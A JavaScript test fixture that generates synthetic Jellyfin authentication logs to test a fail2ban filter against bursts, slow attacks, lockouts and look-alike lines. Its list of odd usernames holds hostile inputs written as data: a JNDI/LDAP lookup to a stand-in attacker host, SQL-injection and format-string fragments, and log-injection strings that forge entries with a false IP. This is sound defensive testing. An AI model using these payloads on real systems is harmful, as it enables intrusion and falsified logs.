// Who fails to log in, and everything that only looks like it.
import { chance, time } from "./draw.mjs";

const USERS = "Jellyfin.Server.Implementations.Users.UserManager";
const ERRORS = "Jellyfin.Api.Middleware.ExceptionMiddleware";
const SESSIONS = "Emby.Server.Implementations.Session.SessionManager";
const DIGEST = "Jellyfin.Plugin.NightlyDigest.DigestTask";

const COMMON = ["admin", "root", "jellyfin", "administrator", "user", "test", "media", "plex", "guest", "pi"];

const ODD = [
  "Max Mustermann",
  "the  admin",
  'say "hi"',
  "o'brien; --",
  "админ",
  "ユーザー",
  "Ren\u00e9e",
  "M\uE0FCller", // one byte of Latin-1 in a file of UTF-8
  "%s%s%n",
  "jndi:ldap://attacker.example/a",
  'x" has been denied (IP: "192.0.2.77").',
  "admin) OR (1=1",
];

/** A refused log-in as Jellyfin 10.10 logs it: the refusal, then the request that failed. */
function denied(draw, at, user, ip, options = {}) {
  const thread = options.thread ?? draw.thread();
  const refusal = { at, level: "INF", thread, source: USERS };
  const failed = { at: at + draw.whole(1, 9), level: "ERR", thread, source: ERRORS };
  const url = (q) => `URL ${q("POST")} ${q("/Users/authenticatebyname")}.`;
  if (options.disabled) {
    return [
      {
        ...refusal,
        message: (q) =>
          `Authentication request for ${q(user)} has been denied because this account is currently disabled (IP: ${q(ip)}).`,
      },
      {
        ...failed,
        message: (q) =>
          `Error processing request: ${q(`The ${user} account is currently disabled. Please consult with your administrator`)}. ${url(q)}`,
      },
    ];
  }
  return [
    { ...refusal, message: (q) => `Authentication request for ${q(user)} has been denied (IP: ${q(ip)}).` },
    {
      ...failed,
      message: (q) => `Error processing request: ${q("Invalid username or password entered")}. ${url(q)}`,
    },
  ];
}

/** A log-in that succeeds. */
function loggedIn(draw, at, user) {
  const line = { level: "INF", thread: draw.thread() };
  const token = draw.guid();
  return [
    { ...line, at, source: USERS, message: (q) => `Authentication request for ${q(user)} has succeeded.` },
    {
      ...line,
      at: at + 2,
      source: SESSIONS,
      message: (q) => `Current/Max sessions for user ${q(user)}: 1/0`,
    },
    { ...line, at: at + 3, source: SESSIONS, message: () => `Creating new access token for user ${token}` },
  ];
}

/** `count` failures from one address, a few seconds apart. */
function burst(draw, start, count, ip, names, seconds = [1, 9]) {
  let at = time(start) + draw.whole(0, 999);
  const events = [];
  for (let n = 0; n < count; n++) {
    events.push(...denied(draw, at, names[n % names.length], ip));
    at += draw.whole(seconds[0] * 1000, seconds[1] * 1000);
  }
  return events;
}

/** The day of log_20261120.log. Under the jail: maxretry 3, findtime 12 h, bantime 24 h. */
export function incidents() {
  const draw = chance(20261120);
  return [
    // Banned: three or more failures at once.
    ...burst(draw, "02:14:06", 24, "203.0.113.7", COMMON),
    ...burst(draw, "09:31:40", 8, "2001:db8:17::b0b", ["admin", "administrator"]),
    ...burst(draw, "13:05:12", ODD.length, "203.0.113.180", ODD, [40, 220]),
    // Banned though slow: the third failure comes ten hours after the first.
    ...["02:00:31", "07:00:30", "12:00:32", "17:00:31", "22:00:30"].flatMap((at) =>
      burst(draw, at, 1, "198.51.100.23", ["admin"]),
    ),
    // Banned though never three within twelve hours: fail2ban lets a share of the older failures count on.
    ...["01:10:20", "07:40:21", "14:10:22"].flatMap((at) => burst(draw, at, 1, "198.51.100.40", ["admin"])),
    // Banned only where the day before is read too: the third failure falls just after midnight.
    ...burst(draw, "00:00:21", 1, "203.0.113.8", ["admin"]),
    // Banned the day before (see there), back forty minutes after that ban has run out.
    ...burst(draw, "09:40:02", 5, "203.0.113.99", ["jellyfin", "root"]),
    // Three bursts in a day: one long ban, or three bans where bantime is short.
    ...["03:10:00", "12:10:00", "21:10:00"].flatMap((at) =>
      burst(draw, at, 4, "192.0.2.150", ["root", "pi"]),
    ),
    // The account is locked after three failures; what follows is worded otherwise and is not counted.
    ...burst(draw, "20:45:10", 3, "203.0.113.66", ["carla"]),
    {
      at: time("20:45:40"),
      level: "WRN",
      thread: 31,
      source: USERS,
      message: (q) => `Disabling user ${q("carla")} due to 3 unsuccessful login attempts.`,
    },
    ...["20:46:02", "20:46:09", "20:46:15"].flatMap((at) =>
      denied(draw, time(at), "carla", "203.0.113.66", { disabled: true }),
    ),

    // Not banned: three failures in seventeen hours.
    ...["01:20:20", "12:00:21", "18:10:22"].flatMap((at) => burst(draw, at, 1, "198.51.100.41", ["admin"])),
    // Not banned: the same network, a new address for each try or two.
    ...Array.from({ length: 9 }, (_, n) =>
      burst(draw, `15:${String(20 + 2 * n)}:04`, 1 + (n % 2), `2001:db8:bad:cafe::${(n + 1).toString(16)}`, [
        "admin",
      ]),
    ).flat(),
    // Not banned: many addresses, one try each.
    ...Array.from({ length: 18 }, (_, n) =>
      burst(draw, `18:${String(3 + 3 * n).padStart(2, "0")}:17`, 1, `198.51.100.${100 + n}`, ["anna"]),
    ).flat(),
    // Not banned: Anna mistypes her password twice and then gets in; Ben once.
    ...burst(draw, "19:02:11", 2, "192.0.2.41", ["anna"], [14, 20]),
    ...loggedIn(draw, time("19:03:05"), "anna"),
    ...burst(draw, "16:20:44", 1, "2001:db8:42::5", ["ben"]),
    ...loggedIn(draw, time("16:21:02"), "ben"),

    // Refusals in other words: not counted by the guide's filter.
    ...["04:20:01", "04:20:02", "04:20:04"].map((at) => ({
      at: time(at),
      level: "INF",
      thread: 17,
      source: USERS,
      message: (q) => `Authentication request without username has been denied (IP: ${q("198.51.100.66")}).`,
    })),
    {
      at: time("11:15:09"),
      level: "INF",
      thread: 40,
      source: USERS,
      message: (q) =>
        `Authentication request for ${q("kids")} forbidden: remote access disabled and user not in local network (IP: ${q("198.51.100.67")}).`,
    },
    {
      at: time("21:30:00"),
      level: "INF",
      thread: 44,
      source: USERS,
      message: (q) =>
        `Authentication request for ${q("kids")} is not allowed at this time due parental restrictions (IP: ${q("2001:db8:42::7")}).`,
    },

    ...echoes(),
  ];
}

/** Lines that repeat the sentence and are no failure. */
function echoes() {
  const forged =
    '[2026-11-20 13:50:00.000 -04:00] [INF] [8] Jellyfin.Server.Implementations.Users.UserManager: Authentication request for "bob" has been denied (IP: "192.0.2.78").';
  const playing = (at, title) => ({
    at: time(at),
    level: "INF",
    thread: 23,
    source: SESSIONS,
    message: (q) =>
      `Playback stopped reported by app ${q("Jellyfin Web")} ${q("10.10.7")} playing ${q(title)}. Stopped at ${q("1284000")} ms`,
  });
  const digest = (at, text) => ({
    at: time(at),
    level: "INF",
    thread: 58,
    source: DIGEST,
    message: () => text,
  });
  return [
    // A user name with a line break: the second line begins like an entry about 192.0.2.78, but the quotes of the
    // name are escaped, and the line ends with the true address.
    ...denied(chance(78), time("13:50:00"), `bob\n${forged}`, "203.0.113.180"),
    playing("10:12:40", "Authentication request for Ada has been denied"),
    playing("22:48:19", 'Authentication request for "Ada" has been denied (IP: "192.0.2.79").'),
    // A plugin that tells of yesterday, without quotes: the guide's filter passes over it ...
    digest("06:00:01", "Yesterday: Authentication request for root has been denied (IP: 203.0.113.99)."),
    // ... and with them: the guide's filter takes each for a failure of today.
    digest("06:00:02", 'Yesterday: Authentication request for "opa" has been denied (IP: "192.0.2.77").'),
    digest("06:00:02", 'Yesterday: Authentication request for "opa" has been denied (IP: "192.0.2.77").'),
  ];
}

/** The day of log_20261119.log.gz. */
export function dayBefore() {
  const draw = chance(20261119);
  return [
    ...burst(draw, "08:58:20", 4, "203.0.113.99", ["jellyfin", "root"]),
    ...burst(draw, "22:37:04", 6, "198.51.100.200", ["admin"]),
    ...burst(draw, "23:10:30", 2, "192.0.2.77", ["opa"], [20, 40]),
    ...loggedIn(draw, time("23:12:02"), "opa"),
    ...burst(draw, "23:59:10", 2, "203.0.113.8", ["admin"], [5, 20]),
  ];
}

/** The day of jellyfin20261118.log: the server still ran from a package, which names its files otherwise. */
export function firstDay() {
  const draw = chance(20261118);
  return [
    ...burst(draw, "11:20:15", 2, "203.0.113.9", ["admin"], [30, 90]),
    ...burst(draw, "20:14:50", 1, "192.0.2.41", ["anna"]),
    ...loggedIn(draw, time("20:15:20"), "anna"),
  ];
}

/** The evening of console.log: a container that was started at 17:40. */
export function evening() {
  const draw = chance(1740);
  const tries = [
    ...denied(draw, time("17:51:27"), "admin", "203.0.113.7", { thread: 28 }),
    ...burst(draw, "17:51:31", 4, "203.0.113.7", ["root", "jellyfin", "the admin"]),
    ...burst(draw, "18:20:00", 3, "2001:db8:17::b0b", ["admin"]),
    ...burst(draw, "18:32:12", 2, "192.0.2.41", ["anna"], [12, 20]),
    ...loggedIn(draw, time("18:33:40"), "anna"),
    // Without quotes a name can hold the sentence; the address that counts is the last one.
    ...denied(draw, time("19:05:00"), "x has been denied (IP: 192.0.2.78).", "203.0.113.180"),
    ...denied(draw, time("19:05:09"), 'say "hi"', "203.0.113.180"),
    ...denied(draw, time("19:20:30"), "kids", "198.51.100.67", { disabled: true }),
  ];
  return [
    ...tries,
    {
      at: time("19:30:00"),
      level: "INF",
      thread: 58,
      source: DIGEST,
      message: () => "Today: Authentication request for opa has been denied (IP: 192.0.2.77).",
    },
  ];
}
